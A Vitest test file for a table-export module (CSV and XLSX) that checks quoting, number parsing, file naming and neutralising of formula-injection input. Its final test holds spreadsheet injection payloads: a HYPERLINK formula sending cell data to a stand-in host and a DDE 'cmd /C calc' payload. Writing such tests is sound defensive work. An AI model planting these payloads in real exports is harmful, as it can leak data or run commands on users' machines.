import { describe, expect, it } from "vitest";
import { buildCsv, csvCell, exportFileName, numericCell, xlsxRows } from "./table-export";

describe("table export", () => {
  it("quotes cells with commas, quotes and line breaks", () => {
    expect(csvCell("plain")).toBe("plain");
    expect(csvCell("a,b")).toBe('"a,b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
  });
  it("writes a BOM, the head and the rows", () => {
    expect(buildCsv(["Name", "Price"], [["Rice", "1,000.00"]])).toBe('\uFEFFName,Price\r\nRice,"1,000.00"\r\n');
  });
  it("reads shown amounts back as numbers, and nothing else", () => {
    expect(numericCell("1,234.50")).toBe(1234.5);
    expect(numericCell("-7")).toBe(-7);
    expect(numericCell("12/11/2026")).toBeNull();
    expect(numericCell("")).toBeNull();
  });
  it("names files safely with the format's extension", () => {
    expect(exportFileName("Sale Detail: A/B", "xlsx")).toBe("Sale Detail A B.xlsx");
    expect(exportFileName("  ", "csv")).toBe("export.csv");
    expect(exportFileName("statement.csv", "csv")).toBe("statement.csv");
  });
  it("writes numeric columns as numbers in XLSX, with a bold head and footer", () => {
    const rows = xlsxRows({
      head: ["Item", "Total"],
      rows: [["Rice", "1,000.00"]],
      numeric: [false, true],
      footer: [["Total", "1,000.00"]],
    });
    expect(rows[0][0]).toMatchObject({ value: "Item", fontWeight: "bold" });
    expect(rows[1][0]).toMatchObject({ value: "Rice", type: String });
    expect(rows[1][1]).toMatchObject({ value: 1000, type: Number });
    expect(rows[2][1]).toMatchObject({ value: 1000, fontWeight: "bold" });
  });
  it("writes a formula-named customer as text in CSV and XLSX, and a negative amount as a number", () => {
    const table = {
      head: ["Name", "Balance"],
      rows: [
        ['=HYPERLINK("http://x.example/?d="&A1,"open")', "-1,250.00"],
        ["+cmd|' /C calc'!A0", "-7"],
        ["@SUM(1+1)", "0"],
      ],
      numeric: [false, true],
    };
    const csv = buildCsv(table.head, table.rows, table.numeric);
    expect(csv).toBe(
      '\uFEFFName,Balance\r\n"\'=HYPERLINK(""http://x.example/?d=""&A1,""open"")","-1,250.00"\r\n\'+cmd|\' /C calc\'!A0,-7\r\n\'@SUM(1+1),0\r\n',
    );
    const rows = xlsxRows(table);
    expect(rows[1][0]).toMatchObject({ value: `'=HYPERLINK("http://x.example/?d="&A1,"open")`, type: String });
    expect(rows[1][1]).toMatchObject({ value: -1250, type: Number });
    expect(rows[2][0]).toMatchObject({ value: "'+cmd|' /C calc'!A0", type: String });
    expect(rows[3][0]).toMatchObject({ value: "'@SUM(1+1)", type: String });
    // A text column holding "-7" is text, and is neutralised.
    expect(buildCsv(["Note"], [["-7"]])).toBe("\uFEFFNote\r\n'-7\r\n");
  });
});
